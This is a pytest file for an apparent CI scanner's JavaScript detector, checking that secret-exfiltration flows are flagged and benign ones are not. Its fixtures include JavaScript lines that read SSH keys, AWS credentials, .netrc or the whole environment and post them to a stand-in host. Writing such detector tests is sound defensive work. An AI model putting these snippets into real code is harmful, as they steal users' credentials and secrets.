"""Private data that passes through names of JavaScript, matched by text."""

from __future__ import annotations

import pytest

from aces_ci.core.finding import Severity
from aces_ci.core.scripts.detectors.javascript_danger import scan

SENT = {
    "read, then sent": "const k = fs.readFileSync(home + '/.ssh/id_rsa');\nfetch(U, {method: 'POST', body: k});",
    "awaited": "const k = await readFile(`${home}/.aws/credentials`);\nawait axios.post(U, {k});",
    "passed on": "const k = fs.readFileSync('/root/.netrc');\nconst b = k.toString('base64');\nfetch(`${U}?k=${b}`);",
    "environment": "const e = JSON.stringify(process.env);\nreq.write(e);",
    "spread": "const e = {...process.env};\nfetch(U, {body: JSON.stringify(e)});",
    "by a shell": "const k = execSync('cat ~/.ssh/id_rsa').toString();\ngot.post(U, {body: k});",
}
HARMLESS = {
    "a setting": "const c = JSON.parse(fs.readFileSync('.env.json'));\nfetch(U, {headers: {k: c.key}});",
    "one variable": "const k = process.env.KEY;\nfetch(U, {headers: {Authorization: k}});",
    "not sent": "const k = fs.readFileSync('/root/.netrc');\nconsole.log(k.length);\nfetch(U);",
    "another name": "const k = fs.readFileSync('/root/.netrc');\nfetch(U, {body: kind});",
    "there or not": "const k = fs.existsSync('/root/.netrc');\nfetch(U, {body: k});",
    "to itself": "const k = JSON.stringify(process.env);\nfetch('http://localhost:3000', {body: k});",
}


def worst(code: str) -> set[str]:
    return {
        hazard.shape for hazard in scan(f"const U = 'https://x.dev/u';\n{code}") if hazard.severity is Severity.CRITICAL
    }


@pytest.mark.parametrize("code", SENT.values(), ids=SENT)
def test_what_a_name_holds_is_followed_to_where_it_is_sent(code: str) -> None:
    assert worst(code) == {"send-secret"}


@pytest.mark.parametrize("code", HARMLESS.values(), ids=HARMLESS)
def test_a_setting_or_another_name_raises_no_alarm(code: str) -> None:
    assert worst(code) == set()
